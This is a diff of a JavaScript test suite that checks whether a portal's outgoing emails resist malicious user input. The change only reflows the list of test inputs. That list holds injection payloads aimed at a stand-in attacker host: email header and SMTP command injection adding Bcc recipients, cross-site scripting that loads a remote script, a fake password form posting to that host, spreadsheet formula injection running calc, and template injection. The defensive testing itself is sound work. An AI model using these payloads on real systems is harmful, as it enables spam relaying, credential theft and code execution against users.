@@ -23,14 +23,25 @@ const listEmails = () => portal.database.db.selectFrom('emails').selectAll().exe
 describe('user input in emails', () => {
   const evil = 'all@evil.example';
   const maliciousTexts = [
-    ...[`Ana\r\nBcc: ${evil}`, `Ana\nTo: ${evil}\n\nBuy pills`, `Ana\rCc: ${evil}`],
-    ...[`Ana\u2028Bcc: ${evil}\u2029x`, `Ana\0\x0bBcc: ${evil}`, `Write to ${evil}`],
+    `Ana\r\nBcc: ${evil}`,
+    `Ana\nTo: ${evil}\n\nBuy pills`,
+    `Ana\rCc: ${evil}`,
+    `Ana\u2028Bcc: ${evil}\u2029x`,
+    `Ana\0\x0bBcc: ${evil}`,
+    `Write to ${evil}`,
     `Ana\r\n.\r\nMAIL FROM:<${evil}>\r\nRCPT TO:<${evil}>\r\nDATA\r\nx`,
-    ...['<img src=x onerror=alert(1)>', '</p></div><form action=//evil.example><input name=password>'],
-    ...['<a href="https://evil.example">Sign in</a>', `"><script src=//evil.example/x.js></script>`],
-    ...['&lt;script&gt;alert(1)&lt;/script&gt;', "=cmd|'/C calc'!A0", '+1+1" @SUM(A1)'],
-    ...['=?utf-8?B?QmNjOiBhQGIuYw==?=', '{{constructor.constructor("alert(1)")()}}', 'evil.example'],
-    ...['You won! Visit https://evil.example/win', 'www.evil.example/win now'],
+    '<img src=x onerror=alert(1)>',
+    '</p></div><form action=//evil.example><input name=password>',
+    '<a href="https://evil.example">Sign in</a>',
+    `"><script src=//evil.example/x.js></script>`,
+    '&lt;script&gt;alert(1)&lt;/script&gt;',
+    "=cmd|'/C calc'!A0",
+    '+1+1" @SUM(A1)',
+    '=?utf-8?B?QmNjOiBhQGIuYw==?=',
+    '{{constructor.constructor("alert(1)")()}}',
+    'evil.example',
+    'You won! Visit https://evil.example/win',
+    'www.evil.example/win now',
   ];
 
   /** Expects only the portal's headers, each once, and no added recipient. */
